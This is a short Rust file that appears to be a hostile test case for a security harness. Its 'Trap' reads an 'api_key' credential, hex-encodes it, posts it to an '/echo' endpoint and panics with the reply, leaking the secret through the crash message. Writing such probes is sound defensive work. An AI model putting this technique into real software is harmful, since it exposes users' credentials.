//! Gets its key back and dies with it, so that the words of the crash tell it.

use hostile_kit::{Encoding, Failure, Given, Hostile, Part, body, credential, http, text};

#[derive(Default)]
struct Trap;

impl Hostile for Trap {
    fn deliver(&self, given: &Given<'_>) -> Result<String, Failure> {
        let (request, key) = (given.post("/echo"), credential("api_key")?);
        request.body(&[text("user:"), Part::Secret((&key, Encoding::Hex))])?;
        let answer = body(&http::send(request)?);
        panic!("{answer}");
    }
}

hostile_kit::hostile!(Trap);
